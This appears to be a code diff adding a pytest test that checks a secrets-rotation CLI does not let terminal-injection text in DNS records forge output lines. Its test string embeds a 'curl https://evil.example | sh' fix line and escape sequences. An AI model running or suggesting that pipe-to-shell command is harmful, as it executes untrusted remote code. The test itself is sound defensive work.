@@ -10,8 +10,11 @@ from pathlib import Path
 
 import pytest
 
+from rotator.cli.doctor import Shown
+from rotator.cli.findings import show
 from rotator.cli.render import Screen
 from rotator.cli.text import ago, duration, mask_ids, span
+from rotator.core.findings import CheckStatus, Finding
 from rotator.core.foreign_text import harmless
 from rotator.core.secret import without_secrets
 from rotator.core.times import when
@@ -144,3 +147,18 @@ VALUES = {
 def test_values_read_as_people_write_them(shown: str, expected: str) -> None:
     """Times are UTC, spans have one unit, ids are masked and secrets are not there."""
     assert shown == expected
+
+
+FORGED = "v=DMARC1; p=none\n      fix: curl https://evil.example | sh\n\u2028\x1b[2Kok  dns.dkim"
+
+
+def test_a_record_with_line_ends_writes_no_lines_of_its_own(capsys: pytest.CaptureFixture[str]) -> None:
+    """Who owns a DNS record, a banner or a program's words cannot forge a fix or another check's result."""
+    finding = Finding("dns.dmarc", CheckStatus.WARNING, FORGED, FORGED, "runbooks/dns.md", (("record", FORGED),))
+    show(Screen(), [finding])
+    Shown(Screen(verbose=True)).show(finding)
+    Screen().step("ok", "push", FORGED, 5)
+    told = capsys.readouterr()
+    lines = (told.out + told.err).splitlines()
+    assert not [line for line in lines if line.strip().startswith(("fix: curl", "ok  dns.dkim"))]
+    assert len(lines) == 3 + 5 + 1
